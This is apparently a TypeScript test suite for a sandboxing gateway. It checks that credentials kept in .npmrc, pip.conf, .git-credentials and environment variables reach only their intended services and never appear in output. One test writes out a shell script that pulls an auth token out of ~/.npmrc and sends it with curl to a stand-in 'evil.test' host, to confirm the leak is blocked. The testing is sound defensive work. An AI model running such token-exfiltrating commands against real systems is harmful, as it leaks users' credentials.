// Clients with secrets in the files of a home, as people have them: under `run` they work with nothing set up, and see none of them.

import assert from 'node:assert/strict';
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { describe, test } from 'node:test';
import { stringify } from 'yaml';

import { canary, findCanary } from '../support/canary.ts';
import { captureObstacle } from '../support/capture-obstacle.ts';
import { type CommandResult, mustRun, runCommand } from '../support/command.ts';
import { gitServer } from '../support/git-server.ts';
import { httpsOrigin, type Origin } from '../support/origin.ts';
import { packageRegistry } from '../support/package-registry.ts';
import { leadingProxy } from '../support/leading-proxy.ts';
import { launcher } from '../support/program.ts';
import { temporaryDirectory } from '../support/temporary-directory.ts';
import { createTestAuthority } from '../support/test-authority.ts';
import { skipWithout } from '../support/tools.ts';

const obstacle = captureObstacle();
const basic = (user: string, password: string): string =>
  `Basic ${Buffer.from(`${user}:${password}`).toString('base64')}`;

interface Setting extends AsyncDisposable {
  readonly home: string;
  readonly work: string;
  readonly authority: ReturnType<typeof createTestAuthority>;
  /** Writes files of the home. */
  write(files: Readonly<Record<string, string>>): Promise<void>;
  /** Runs a command with a policy that opens these origins, by their names. */
  run(
    origins: Readonly<Record<string, Origin>>,
    command: readonly string[],
    options?: readonly string[],
    more?: { readonly credentials?: object; readonly env?: Readonly<Record<string, string>> },
  ): Promise<CommandResult>;
}

async function setting(): Promise<Setting> {
  await using stack = new AsyncDisposableStack();
  const { path } = stack.use(await temporaryDirectory());
  const authority = createTestAuthority();
  const [home, work] = [join(path, 'home'), join(path, 'work')];
  for (const folder of [home, work]) await mkdir(folder);
  await writeFile(join(path, 'ca.pem'), authority.caPem);
  const owned = stack.move();
  return {
    home,
    work,
    authority,
    write: async (files) => {
      for (const [name, text] of Object.entries(files)) {
        await mkdir(dirname(join(home, name)), { recursive: true });
        await writeFile(join(home, name), text, { mode: 0o600 });
      }
    },
    run: async (origins, command, options = [], { credentials, env: variables } = {}) => {
      const ports = Object.entries(origins).map(([host, { port }]) => [host, port]);
      await using proxy = await leadingProxy(Object.fromEntries(ports));
      const rules = [{ name: 'all', hosts: ['other.test', ...Object.keys(origins)] }];
      await writeFile(join(path, 'policy.yaml'), stringify({ rules }));
      const upstream = { ca: 'ca.pem', systemTrust: false, proxy: { url: proxy.url } };
      await writeFile(
        join(path, 'gateway.yaml'),
        stringify({ policy: 'policy.yaml', upstream, ...(credentials === undefined ? {} : { credentials }) }),
      );
      const env = {
        PATH: process.env['PATH'],
        ...(process.env['PYENV_ROOT'] === undefined ? {} : { PYENV_ROOT: process.env['PYENV_ROOT'] }),
        ...variables,
        HOME: home,
        XDG_STATE_HOME: join(path, 'state'),
      };
      const args = ['run', '--config', join(path, 'gateway.yaml'), ...options, '--', ...command];
      return await runCommand(launcher, args, { env, cwd: work });
    },
    [Symbol.asyncDispose]: () => owned.disposeAsync(),
  };
}

/** An origin in front of which stands one value of Authorization. */
function locked(origin: Origin, expected: string): readonly string[] {
  return origin.requests
    .map(({ headers }) => headers.authorization ?? 'none')
    .filter((value) => value !== expected);
}

/** A wheel with one module, and a simple index of it (PEP 503) below `/private/simple`. */
async function wheelIndex(one: Setting, expected: string): Promise<Origin> {
  const script = `import zipfile,sys
with zipfile.ZipFile(sys.argv[1],'w') as z:
  z.writestr('hellowheel.py','said = "hello"\\n')
  z.writestr('hellowheel-1.0.dist-info/METADATA','Metadata-Version: 2.1\\nName: hellowheel\\nVersion: 1.0\\n')
  z.writestr('hellowheel-1.0.dist-info/WHEEL','Wheel-Version: 1.0\\nGenerator: test\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n')
  z.writestr('hellowheel-1.0.dist-info/RECORD','')`;
  const name = 'hellowheel-1.0-py3-none-any.whl';
  await mustRun('python3', ['-c', script, join(one.work, name)]);
  const wheel = await readFile(join(one.work, name));
  return await httpsOrigin({
    authority: one.authority,
    handler: (request, response) => {
      const isWheel = request.url?.endsWith('.whl') === true;
      if (request.headers.authorization !== expected)
        return void response.writeHead(401, { 'www-authenticate': 'Basic realm="pip"' }).end();
      response.writeHead(200, { 'content-type': isWheel ? 'application/octet-stream' : 'text/html' });
      response.end(isWheel ? wheel : `<a href="${name}">${name}</a>`);
    },
  });
}

describe('secrets in files of the home', { concurrency: 2, skip: obstacle }, () => {
  test(
    'npm installs from a private registry with what stands in .npmrc',
    { skip: skipWithout('npm') },
    async () => {
      await using one = await setting();
      const token = canary('npm');
      const publicUrl = 'https://good.test/';
      await using registry = await packageRegistry({
        authority: one.authority,
        publicUrl,
        name: 'hello-private',
        expectedAuthorization: `Bearer ${token}`,
      });
      await one.write({ '.npmrc': `registry=${publicUrl}\n//good.test/:_authToken=${token}\n` });
      const script =
        'npm install --no-fund --no-update-notifier hello-private && cat ~/.npmrc && node -p "require(\'hello-private\')"';
      const { code, stdout, stderr } = await one.run({ 'good.test': registry }, ['sh', '-c', script]);
      assert.equal(code, 0, stderr + stdout);
      assert.match(stdout, /^hello$/m);
      assert.match(stderr, /with placeholders: ~\/\.npmrc/);
      assert.deepEqual(findCanary(stdout + stderr, token), []);
      assert.ok(registry.requests.some(({ headers }) => headers.authorization === `Bearer ${token}`));
    },
  );

  test(
    'pip installs from a private index with what stands in pip.conf',
    { skip: skipWithout('pip', 'python3') },
    async () => {
      await using one = await setting();
      const password = canary('pip');
      const expected = basic('bob', password);
      await using index = await wheelIndex(one, expected);
      const url = `https://bob:${password}@good.test/private/simple`;
      await one.write({ '.config/pip/pip.conf': `[global]\nindex-url = ${url}\n` });
      const script =
        'pip install --disable-pip-version-check --no-cache-dir --target site hellowheel && cat ~/.config/pip/pip.conf && PYTHONPATH=site python3 -c "import hellowheel; print(hellowheel.said)"';
      const { code, stdout, stderr } = await one.run({ 'good.test': index }, ['sh', '-c', script]);
      assert.equal(code, 0, stderr + stdout);
      assert.match(stdout, /^hello$/m);
      assert.deepEqual(findCanary(stdout + stderr, password), []);
    },
  );

  test(
    'git clones over HTTPS with what stands in .git-credentials, and pushes where writes are allowed',
    { skip: skipWithout('git') },
    async () => {
      await using one = await setting();
      const password = canary('git');
      const expected = basic('alice', password);
      await using server = await gitServer({ authority: one.authority, expectedAuthorization: expected });
      const url = 'https://good.test';
      await one.write({
        '.gitconfig': '[credential]\n\thelper = store\n[user]\n\tname = Test\n\temail = test@example.com\n',
        '.git-credentials': `https://alice:${password}@good.test\n`,
      });
      const clone = `git clone -q ${url}${server.repositoryPath} copy && cat copy/README ~/.git-credentials`;
      const push = 'cd copy && git commit -q --allow-empty -m more && git push -q origin HEAD:more';
      const read = await one.run({ 'good.test': server }, ['sh', '-c', `${clone}; ${push}`]);
      assert.match(read.stdout, /fetched through the proxy/, read.stderr);
      assert.notEqual(read.code, 0);
      const pushes = (): boolean =>
        server.requests.some(
          ({ target, headers }) => target.includes('receive-pack') && headers.authorization !== undefined,
        );
      assert.ok(!pushes());
      const write = await one.run({ 'good.test': server }, ['sh', '-c', push], ['--home-credentials=write']);
      assert.equal(write.code, 0, write.stderr);
      assert.ok(pushes());
      for (const { stdout, stderr } of [read, write])
        assert.deepEqual(findCanary(stdout + stderr, password), []);
    },
  );

  test(
    'no file of the repository or the home leads a secret to another place',
    { skip: skipWithout('curl') },
    async () => {
      await using one = await setting();
      const token = canary('npm');
      await using good = await httpsOrigin({ authority: one.authority });
      await using evil = await httpsOrigin({ authority: one.authority });
      await one.write({
        '.npmrc': `//good.test/private/:_authToken=${token}\n//evil.test/:_authToken=\${NPM_TOKEN}\n//evil.test/:tokenHelper=/tmp/none\nregistry=https://evil.test/\n`,
      });
      // A repository's own file, with a token of its own, counts for nothing.
      await writeFile(join(one.work, '.npmrc'), `//evil.test/:_authToken=own\nregistry=https://evil.test/\n`);
      const script = `P=$(sed -n 's/.*private.:_authToken=//p' ~/.npmrc); cat .npmrc
      for url in https://evil.test/reflect https://good.test/reflect https://good.test/privateer/reflect https://evil.test/private/x; do
        curl -sS -H "Authorization: Bearer $P" $url; done
      curl -sS -H "X-Token: $P" "https://good.test/private/x?p=$P"
      curl -sS -X PUT -w '%{http_code}' -H "Authorization: Bearer $P" https://good.test/private/put
      curl -sS -H "Authorization: Bearer $P" https://good.test/private/get`;
      const { stdout, stderr } = await one.run({ 'good.test': good, 'evil.test': evil }, [
        'sh',
        '-c',
        script,
      ]);
      assert.match(stdout, /:_authToken=own$/m, stderr);
      assert.match(stdout, /--home-credentials=write[^]*403/);
      assert.deepEqual(findCanary(stdout + stderr, token), []);
      assert.equal(evil.requests.length, 2);
      assert.deepEqual(findCanary(JSON.stringify(evil.requests), token), []);
      // Only the last one is for the place beside which it stands, in the field that it is for, and a read.
      assert.deepEqual(
        good.requests
          .filter((request) => JSON.stringify(request).includes(token))
          .map(({ target }) => target),
        ['/private/get'],
      );
      assert.ok(!good.requests.some(({ method }) => method === 'PUT'));
      assert.ok(locked(good, `Bearer ${token}`).length > 0);
    },
  );

  test('variables that the catalogue knows are placeholders, and their secrets go to their service alone', async () => {
    await using one = await setting();
    const [token, key, named] = [canary('gh'), canary('ai'), canary('reg')];
    const origin = () =>
      httpsOrigin({
        authority: one.authority,
        handler: (request, response) =>
          void response.end(`${request.method} ${request.url}, a token: none\n`),
      });
    await using github = await origin();
    await using models = await origin();
    await using registry = await origin();
    const origins = {
      'api.github.com': github,
      'github.com': github,
      'models.test': models,
      'registry.test': registry,
    };
    const env = {
      GITHUB_TOKEN: token,
      OPENAI_API_KEY: key,
      OPENAI_BASE_URL: 'https://models.test/v1',
      NPM_TOKEN: named,
      OTHER_TOKEN: 'other',
    };
    const script = `env
      curl -sS -H "Authorization: token $GITHUB_TOKEN" https://api.github.com/user
      curl -sS -X POST -d a=b -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/repos/a/b/issues
      curl -sS -u "x-access-token:$GITHUB_TOKEN" "https://github.com/a/b/info/refs?service=git-upload-pack"
      curl -sS -H "Authorization: token $GITHUB_TOKEN" https://api.github.com/repos/a/b/actions/runs/1/logs
      curl -sS -H "Authorization: Bearer $GITHUB_TOKEN" https://models.test/v1/models
      curl -sS -H "Authorization: Bearer $OPENAI_API_KEY" https://api.github.com/user
      curl -sS -H "Authorization: Bearer $OPENAI_API_KEY" https://models.test/v1/models
      curl -sS -H "Authorization: Bearer $OPENAI_API_KEY" https://models.test/other
      curl -sS -H "X-Key: $NPM_TOKEN" "https://registry.test/a?b=$NPM_TOKEN"
      curl -sS -H "Authorization: Bearer $NPM_TOKEN" https://registry.test/a`;
    const options = ['--secret', 'NPM_TOKEN@registry.test'];
    const { code, stdout, stderr } = await one.run(origins, ['sh', '-c', script], options, { env });
    assert.equal(code, 0, stderr);
    for (const secret of [token, key, named]) assert.deepEqual(findCanary(stdout + stderr, secret), []);
    assert.match(stderr, /variables with placeholders: .*GITHUB_TOKEN \(for api\.github\.com, /);
    assert.match(stderr, /OPENAI_API_KEY \(for models\.test\/v1\); NPM_TOKEN \(for registry\.test\)/);
    assert.match(stderr, /look like secrets: OTHER_TOKEN;/);
    assert.match(stdout, /^OTHER_TOKEN=other$/m);
    assert.match(stdout, /not asked for more secrets: GitHub: logs of runs/);
    const sentWith = (seen: Origin, secret: string): string[] =>
      seen.requests.filter((request) => JSON.stringify(request).includes(secret)).map(({ target }) => target);
    const basicToken = Buffer.from(`x-access-token:${token}`).toString('base64');
    assert.deepEqual(sentWith(github, token), ['/user', '/repos/a/b/issues']);
    assert.deepEqual(sentWith(github, basicToken), ['/a/b/info/refs?service=git-upload-pack']);
    assert.ok(!github.requests.some(({ target }) => target.includes('logs')));
    assert.deepEqual([sentWith(models, key), sentWith(registry, named)], [['/v1/models'], ['/a']]);
    assert.deepEqual([sentWith(models, token), sentWith(github, key)], [[], []]);
    const kept = await one.run(origins, ['env'], ['--keep-env', 'GITHUB_TOKEN'], { env });
    assert.match(kept.stdout, new RegExp(`^GITHUB_TOKEN=${token}$`, 'm'));
    assert.match(kept.stderr, /look like secrets: GITHUB_TOKEN, NPM_TOKEN, OTHER_TOKEN;/);
  });

  test('what the configuration names, and the state of the gateway, are not there for the command', async () => {
    await using one = await setting();
    const secret = canary('env');
    const script = 'env; ls -A "$XDG_STATE_HOME/upstreamproxy"; echo end';
    const credentials = { api: { kind: 'bearer', source: { env: 'API_SECRET' } } };
    const own = await one.run({}, ['sh', '-c', script], [], { credentials, env: { API_SECRET: secret } });
    assert.equal(own.code, 0, own.stderr);
    assert.match(own.stdout, /\nend\n$/);
    assert.deepEqual(findCanary(own.stdout + own.stderr, secret), []);
    assert.doesNotMatch(own.stdout, /API_SECRET|^runs$/m);
    // A file that is open to the command.
    const file = join(one.work, 'secret');
    await writeFile(file, secret, { mode: 0o600 });
    const inFile = { credentials: { api: { kind: 'bearer', source: { file } } } };
    const told = await one.run({}, ['true'], [], inFile);
    assert.equal(told.code, 0, told.stderr);
    assert.match(told.stderr, /the command can read what the configuration names.*\/secret/);
    const refused = await one.run({}, ['echo', 'started'], ['--isolate=require'], inFile);
    assert.notEqual(refused.code, 0);
    assert.match(refused.stderr, /\[jail_refused\]/);
    assert.equal(refused.stdout, '');
    // The same file where the jail hides it.
    const kept = join(one.home, '.config/upstreamproxy/secret');
    await mkdir(dirname(kept), { recursive: true });
    await writeFile(kept, secret, { mode: 0o600 });
    const inHome = { credentials: { api: { kind: 'bearer', source: { file: kept } } } };
    const read = await one.run({}, ['sh', '-c', `cat '${kept}'; echo end`], [], inHome);
    assert.equal(read.stdout, 'end\n', read.stderr);
    assert.doesNotMatch(read.stderr, /the command can read what the configuration names/);
    const passed = await one.run({}, ['env'], ['--pass-env=PATH'], {
      env: { API_SECRET: secret, OTHER: '1' },
    });
    assert.doesNotMatch(passed.stdout, /^(?:API_SECRET|OTHER|HOME)=/m);
    assert.match(passed.stdout, /^HTTPS_PROXY=/m);
  });
});
